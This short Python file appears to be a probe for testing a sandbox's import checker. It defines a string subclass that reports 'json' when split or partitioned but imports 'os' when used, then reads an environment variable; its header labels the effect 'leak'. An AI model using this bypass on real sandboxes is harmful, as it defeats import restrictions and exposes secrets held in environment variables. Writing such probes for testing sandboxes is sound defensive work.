# effect: leak
# note: a name that is json when checked and os when used
class Name(str):
    def split(self, *args):
        return ["json"]

    def partition(self, *args):
        return ("json", "", "")


def attempt(probe):
    return __import__(Name("os")).environ[probe["env"]]
